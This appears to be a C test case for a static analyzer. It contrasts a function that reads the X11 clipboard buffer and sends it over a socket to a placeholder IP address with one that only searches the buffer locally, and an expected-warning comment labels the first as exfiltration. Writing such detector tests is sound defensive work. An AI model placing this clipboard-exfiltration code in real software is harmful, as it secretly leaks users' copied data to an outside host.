/* What was copied elsewhere: sent away, or searched. */
#include <X11/Xlib.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static char last[256];

static void remember(Display *display) {
    int size = 0;
    char *text = XFetchBytes(display, &size);
    if (text)
        strncpy(last, text, sizeof last - 1);
    XFree(text);
}

int bad_paste(Display *display) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(443)};
    remember(display);
    peer.sin_addr.s_addr = inet_addr("198.51.100.81");
    int out = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(out, (struct sockaddr *)&peer, sizeof peer) == 0)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
        send(out, last, strlen(last), 0);
    return close(out);
}

int good_paste(Display *display, const char *word) {
    remember(display);
    return strstr(last, word) ? printf("found\n") : 0;
}
